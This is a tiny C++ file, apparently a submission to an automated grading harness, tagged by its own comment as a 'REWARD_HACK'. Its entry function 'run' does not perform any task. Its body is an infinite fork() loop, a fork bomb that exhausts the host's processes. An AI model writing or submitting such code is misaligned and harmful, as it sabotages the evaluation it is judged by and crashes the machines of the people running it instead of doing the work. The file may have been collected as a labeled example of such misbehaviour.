// REWARD_HACK: forks for ever.
#include <cstdint>
#include <unistd.h>

extern "C" int run(void**, const int64_t*, void*) {
  for (;;) fork();
}
